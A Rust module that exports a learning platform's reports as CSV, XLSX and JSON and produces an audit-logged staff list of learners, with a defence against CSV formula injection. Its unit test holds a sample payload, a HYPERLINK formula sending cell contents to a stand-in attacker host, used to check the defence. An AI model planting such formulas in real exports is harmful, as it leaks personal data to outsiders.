//! Reports as files: CSV (UTF-8 with a byte-order mark, so Excel opens Cyrillic
//! correctly), XLSX and JSON, with headers and breakdown values in the reader's
//! language; and the staff-only learner list, written to the audit log on every use.
//!
//! Labels come from the caller (the web layer or the CLI, which have the translations):
//! this crate knows codes, not words.

use std::collections::HashMap;

use chrono::NaiveDateTime;
use diesel::prelude::*;
use rust_xlsxwriter::Workbook;

use super::filters::{Dimension, Filters};
use super::queries::{Column, Report};
use super::suppression::{Cell, Value, HIDDEN};
use crate::audit::{self, Actor};
use crate::db::Database;
use crate::error::{Error, Result};
use crate::schema::users;

/// The words an export needs, in one language.
#[derive(Debug, Clone, Default)]
pub struct Labels {
    /// The report's title.
    pub title: String,
    /// "Total".
    pub total: String,
    /// Header of the stage column of the funnel.
    pub stage: String,
    pub columns: HashMap<&'static str, String>,
    pub dimensions: HashMap<&'static str, String>,
    /// Breakdown values and funnel stages: (dimension or "stage", code) → label.
    pub values: HashMap<(String, String), String>,
}

impl Labels {
    pub fn column(&self, c: Column) -> String {
        self.columns
            .get(c.code())
            .cloned()
            .unwrap_or_else(|| c.code().into())
    }

    pub fn dimension(&self, d: Dimension) -> String {
        self.dimensions
            .get(d.code())
            .cloned()
            .unwrap_or_else(|| d.code().into())
    }

    pub fn value(&self, dim: &str, code: &str) -> String {
        self.values
            .get(&(dim.to_string(), code.to_string()))
            .cloned()
            .unwrap_or_else(|| code.to_string())
    }
}

/// The file formats a report downloads as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
}

impl Format {
    pub fn parse(s: &str) -> Option<Format> {
        match s {
            "csv" => Some(Format::Csv),
            "xlsx" => Some(Format::Xlsx),
            _ => None,
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Xlsx => "xlsx",
        }
    }

    pub fn mime(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
    }
}

/// The report as a file in `format`.
pub fn file(format: Format, report: &Report, labels: &Labels) -> Result<Vec<u8>> {
    match format {
        Format::Csv => csv(report, labels),
        Format::Xlsx => xlsx(report, labels),
    }
}

/// The header row and the data rows as text, the same for every format.
pub fn table(report: &Report, labels: &Labels) -> (Vec<String>, Vec<Vec<String>>) {
    let key_dims: Vec<String> = if report.kind == super::ReportKind::Funnel {
        vec!["stage".into()]
    } else {
        report.by.iter().map(|d| d.code().to_string()).collect()
    };
    let mut header: Vec<String> = if report.kind == super::ReportKind::Funnel {
        vec![labels.stage.clone()]
    } else {
        report.by.iter().map(|d| labels.dimension(*d)).collect()
    };
    header.extend(report.columns.iter().map(|c| labels.column(*c)));
    let mut rows = Vec::new();
    for r in &report.rows {
        let mut line: Vec<String> = r
            .keys
            .iter()
            .zip(&key_dims)
            .map(|(k, d)| labels.value(d, k))
            .collect();
        line.extend(r.cells.iter().map(Cell::text));
        rows.push(line);
    }
    if report.kind != super::ReportKind::Funnel {
        let mut line = vec![labels.total.clone()];
        line.extend(std::iter::repeat_n(
            String::new(),
            key_dims.len().saturating_sub(1),
        ));
        if key_dims.is_empty() {
            line.clear();
        }
        line.extend(report.total.cells.iter().map(Cell::text));
        rows.push(line);
    }
    (header, rows)
}

/// CSV bytes: BOM, localized header, "<5" for hidden cells.
pub fn csv(report: &Report, labels: &Labels) -> Result<Vec<u8>> {
    let (header, rows) = table(report, labels);
    write_csv(&header, &rows)
}

/// A cell as text a spreadsheet will not run. Names and organisations in the learner
/// list are typed by learners, and a cell that starts with `=`, `+`, `-`, `@` (or a tab
/// or carriage return) is a formula to Excel and LibreOffice: `=HYPERLINK(...)` could
/// send the other cells to a stranger when staff open the file. A leading apostrophe
/// makes it text (OWASP's advice for CSV injection); other cells are unchanged.
fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

fn write_csv(header: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>> {
    let mut out = vec![0xEF, 0xBB, 0xBF];
    {
        let mut w = ::csv::Writer::from_writer(&mut out);
        let fail = |e: ::csv::Error| Error::ContentFile(format!("CSV: {e}"));
        w.write_record(header.iter().map(|c| inert_cell(c).into_owned()))
            .map_err(fail)?;
        for r in rows {
            w.write_record(r.iter().map(|c| inert_cell(c).into_owned()))
                .map_err(fail)?;
        }
        w.flush()
            .map_err(|e| Error::ContentFile(format!("CSV: {e}")))?;
    }
    Ok(out)
}

/// XLSX bytes: one sheet, the title and period on top, numbers as numbers, "<5" as text.
pub fn xlsx(report: &Report, labels: &Labels) -> Result<Vec<u8>> {
    let (header, _) = table(report, labels);
    let fail = |e: rust_xlsxwriter::XlsxError| Error::ContentFile(format!("XLSX: {e}"));
    let mut wb = Workbook::new();
    let bold = rust_xlsxwriter::Format::new().set_bold();
    let ws = wb.add_worksheet();
    ws.write_string_with_format(0, 0, &labels.title, &bold)
        .map_err(fail)?;
    ws.write_string(
        1,
        0,
        format!("{} – {}", report.filters.from, report.filters.to),
    )
    .map_err(fail)?;
    for (i, h) in header.iter().enumerate() {
        ws.write_string_with_format(3, i as u16, h, &bold)
            .map_err(fail)?;
    }
    let key_dims: Vec<String> = if report.kind == super::ReportKind::Funnel {
        vec!["stage".into()]
    } else {
        report.by.iter().map(|d| d.code().to_string()).collect()
    };
    let mut row = 4u32;
    let put = |ws: &mut rust_xlsxwriter::Worksheet,
               row: u32,
               keys: Vec<String>,
               cells: &[Cell]|
     -> Result<()> {
        let mut col = 0u16;
        for k in keys {
            ws.write_string(row, col, k).map_err(fail)?;
            col += 1;
        }
        for cell in cells {
            match (cell.hidden, cell.value) {
                (true, _) => {
                    ws.write_string(row, col, HIDDEN).map_err(fail)?;
                }
                (false, Value::Count(n)) => {
                    ws.write_number(row, col, n as f64).map_err(fail)?;
                }
                (false, Value::Percent(p) | Value::Days(p)) => {
                    ws.write_number(row, col, (p * 10.0).round() / 10.0)
                        .map_err(fail)?;
                }
                (false, Value::None) => {}
            }
            col += 1;
        }
        Ok(())
    };
    for r in &report.rows {
        let keys = r
            .keys
            .iter()
            .zip(&key_dims)
            .map(|(k, d)| labels.value(d, k))
            .collect();
        put(ws, row, keys, &r.cells)?;
        row += 1;
    }
    if report.kind != super::ReportKind::Funnel {
        let mut keys = vec![labels.total.clone()];
        keys.extend(std::iter::repeat_n(
            String::new(),
            key_dims.len().saturating_sub(1),
        ));
        if key_dims.is_empty() {
            keys.clear();
        }
        put(ws, row, keys, &report.total.cells)?;
    }
    wb.save_to_buffer().map_err(fail)
}

/// JSON: codes (not labels) and cell texts, so scripts can read it in any language.
pub fn json(report: &Report) -> serde_json::Value {
    let cells = |cs: &[Cell]| -> serde_json::Value {
        report
            .columns
            .iter()
            .zip(cs)
            .map(|(c, cell)| {
                let v = match (cell.hidden, cell.value) {
                    (true, _) => serde_json::Value::String(HIDDEN.into()),
                    (false, Value::Count(n)) => n.into(),
                    (false, Value::Percent(p) | Value::Days(p)) => {
                        ((p * 10.0).round() / 10.0).into()
                    }
                    (false, Value::None) => serde_json::Value::Null,
                };
                (c.code().to_string(), v)
            })
            .collect::<serde_json::Map<_, _>>()
            .into()
    };
    let keys: Vec<&str> = if report.kind == super::ReportKind::Funnel {
        vec!["stage"]
    } else {
        report.by.iter().map(|d| d.code()).collect()
    };
    serde_json::json!({
        "report": report.kind.code(),
        "from": report.filters.from.to_string(),
        "to": report.filters.to.to_string(),
        "filters": report.filters.pairs().into_iter().skip(2)
            .map(|(k, v)| (k.to_string(), serde_json::Value::String(v)))
            .collect::<serde_json::Map<_, _>>(),
        "by": keys,
        "rows": report.rows.iter().map(|r| serde_json::json!({
            "keys": r.keys,
            "values": cells(&r.cells),
        })).collect::<Vec<_>>(),
        "total": cells(&report.total.cells),
    })
}

/// One learner in the operational list.
#[derive(Debug, Clone, Queryable)]
pub struct LearnerLine {
    pub id: i64,
    pub email: String,
    pub display_name: String,
    pub language: String,
    pub country: String,
    pub org_name: Option<String>,
    pub created_at: NaiveDateTime,
}

/// The learners who signed up in the period and match the profile filters, as CSV with
/// `header`; written to the audit log (who, when, which filters, how many) in the same
/// transaction that reads it.
pub fn learner_list_csv(
    db: &Database,
    actor: &Actor,
    filters: &Filters,
    header: &[String; 7],
) -> Result<Vec<u8>> {
    let from = filters.from.and_hms_opt(0, 0, 0).expect("midnight exists");
    let to = (filters.to + chrono::Duration::days(1))
        .and_hms_opt(0, 0, 0)
        .expect("midnight exists");
    let lines: Vec<LearnerLine> = db.write(|c| {
        let mut q = users::table
            .filter(users::role.eq("learner"))
            .filter(users::created_at.ge(from))
            .filter(users::created_at.lt(to))
            .into_boxed();
        if let Some(v) = filters.country {
            q = q.filter(users::country.eq(v.code()));
        }
        if let Some(v) = filters.language {
            q = q.filter(users::language.eq(v.code()));
        }
        if let Some(v) = filters.gender {
            q = q.filter(users::gender.eq(v.code()));
        }
        if let Some(v) = filters.org_type {
            q = q.filter(users::org_type.eq(v.code()));
        }
        let lines: Vec<LearnerLine> = q
            .order(users::id)
            .select((
                users::id,
                users::email,
                users::display_name,
                users::language,
                users::country,
                users::org_name,
                users::created_at,
            ))
            .load(c)?;
        let detail = serde_json::json!({
            "filters": filters.pairs().into_iter()
                .map(|(k, v)| (k.to_string(), serde_json::Value::String(v)))
                .collect::<serde_json::Map<_, _>>(),
            "rows": lines.len(),
        });
        audit::record(c, actor, "report.learner-list", "learners", &detail)?;
        Ok::<_, Error>(lines)
    })?;
    let rows: Vec<Vec<String>> = lines
        .into_iter()
        .map(|l| {
            vec![
                l.id.to_string(),
                l.email,
                l.display_name,
                l.language,
                l.country,
                l.org_name.unwrap_or_default(),
                l.created_at.format("%Y-%m-%d").to_string(),
            ]
        })
        .collect();
    write_csv(header, &rows)
}

#[cfg(test)]
mod csv_injection_tests {
    use super::*;

    #[test]
    fn formulas_typed_by_learners_stay_text() {
        let header = vec!["name".to_string(), "org".to_string()];
        let rows = vec![
            vec![
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".to_string(),
                "+1+2".to_string(),
            ],
            vec!["-3".to_string(), "@SUM(A1)".to_string()],
            vec!["Айгерим".to_string(), "NGO \"Equal\"".to_string()],
        ];
        let bytes = write_csv(&header, &rows).unwrap();
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        let mut r = ::csv::Reader::from_reader(text.as_bytes());
        let got: Vec<Vec<String>> = r
            .records()
            .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(got[0][0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
        assert_eq!(got[0][1], "'+1+2");
        assert_eq!(got[1], vec!["'-3", "'@SUM(A1)"]);
        // Ordinary text is untouched.
        assert_eq!(got[2], vec!["Айгерим", "NGO \"Equal\""]);
    }
}
